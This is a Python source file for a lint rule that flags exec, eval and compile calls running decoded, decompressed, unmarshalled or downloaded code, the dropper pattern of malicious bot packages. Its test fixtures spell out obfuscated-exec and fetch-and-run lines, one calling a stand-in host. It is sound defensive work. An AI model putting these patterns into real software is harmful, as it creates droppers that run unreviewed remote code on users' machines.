"""BOT501: exec/eval/compile of code that is decoded, decompressed or downloaded."""
from __future__ import annotations

from typing import List, Tuple

import libcst as cst

from ...analysis import payloads
from ...analysis.syntax import LiteralPrecheck
from ...model import Severity
from ._family import Bot5Walk, restricted

PRECHECK = LiteralPrecheck(("exec", "eval", "compile"))


class ExecOfDecodedCode(Bot5Walk):
    """## What it does
    Finds `exec()`, `eval()` and `compile()` (also reached through an alias, `builtins.exec`,
    `getattr(builtins, "exec")` or `__builtins__["exec"]`) whose code is decoded (base64,
    base32, base85, hex, `bytes.fromhex`, rot13), decompressed (zlib, gzip, bz2, lzma),
    unmarshalled (`marshal.loads`) or downloaded (`urlopen(...).read()`,
    `requests.get(...).text`), directly or through variables.  When the layers are literals,
    botlint undoes them statically (at most 8 layers, 1 MB each; it never runs, imports or
    unmarshals anything) and says what the hidden code does: the modules it imports, the
    kinds of host it contacts.

    ## Why is this bad?
    This is the dropper of nearly every malicious "profit bot" and crypto-stealing package:
    the visible code trades or does nothing, and one line runs a payload nobody can review,
    often fetched from the author's server at run time so it can change after you audited it.
    No trading bot needs to execute encoded or downloaded code.

    ## Example
    ```python
    import base64, zlib
    exec(zlib.decompress(base64.b64decode("eJzLzE0...")))
    ```

    ## Use instead
    ```python
    from strategies import grid  # code you can read, imported normally
    ```

    ## Known problems
    Layers are followed through names bound anywhere in the module, not across modules.  A
    restricted `eval(expr, {"__builtins__": {}}, {})`, `ast.literal_eval`, `DataFrame.eval`
    and `re.compile` are not reported.  `exec(open("version.py").read())` (a local file) is
    not reported.

    ## References
    - [CWE-95: Eval Injection](https://cwe.mitre.org/data/definitions/95.html)
    - [Checkmarx: "Python obfuscation traps" (malicious PyPI droppers)](https://checkmarx.com/blog/python-obfuscation-traps/)
    """

    CODE = "BOT501"
    NAME = "exec-of-decoded-code"
    SEVERITY = Severity.CRITICAL
    CWE = 95
    MESSAGE = "Code that is decoded, decompressed or downloaded is executed"
    PRECHECK = PRECHECK
    VALID = (
        'import ast\nvalue = ast.literal_eval(text)\n',
        'import pandas as pd\ndf = pd.DataFrame()\ndf.eval("a + b")\n',
        'import re\npattern = re.compile(r"\\d+")\n',
        'result = eval(expr, {"__builtins__": {}}, {})\n',
        'exec(open("mypkg/version.py").read())\n',
        'import base64, hmac, hashlib\nkey = base64.b64decode(secret)\nsig = hmac.new(key, msg, hashlib.sha256)\n',
    )
    INVALID = (
        'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik="))\n',
        'import requests\ncode = requests.get("https://example.net/x.py").text\nexec(code)\n',
        'import builtins, marshal\ngetattr(builtins, "exec")(marshal.loads(blob))\n',
    )

    def __init__(self, ctx) -> None:
        super().__init__(ctx)
        self.calls: List[Tuple[cst.Call, int]] = []

    def visit_Call(self, node: cst.Call) -> None:
        self.calls.append((node, len(self.calls)))

    def leave_Module(self, original_node: cst.Module) -> None:
        un = None
        for call, _ in self.calls:
            which = self.code_builtin(call.func)
            if which is None or not call.args or call.args[0].keyword is not None:
                continue
            if which == "eval" and restricted(call):
                continue
            un = un or self.unwrapper()
            payload = un.payload(call.args[0].value)
            message = describe(which, payload)
            if message:
                self.report(call, message)


def describe(which: str, payload: payloads.Payload) -> str:
    """The finding's message for ``which`` run on ``payload``, or "" when nothing is hidden."""
    if not (payload.decoded or payload.downloaded or payload.layers):
        return ""
    if payload.downloaded:
        return f"{which}() runs code downloaded at run time" + (
            f" (then {payloads.layer_text([x for x in payload.layers if x != payloads.DOWNLOAD])})"
            if len(payload.layers) > 1 else "") + ": it can change after you reviewed the bot"
    layers = payloads.layer_text(payload.layers)
    if payload.data is None:
        if payload.layers == [payloads.MARSHAL] or payload.layers[-1:] == [payloads.MARSHAL]:
            return f"{which}() runs a marshalled code object ({layers}): compiled code nobody can review"
        return f"{which}() runs code decoded at run time ({layers})"
    size = f"{len(payload.data):,}{'+' if payload.truncated else ''} bytes"
    what = payloads.summarize(payload.data)
    return (f"{which}() runs a payload hidden under {layers} ({size} decoded)"
            + (f": the decoded payload {what}" if what else ""))
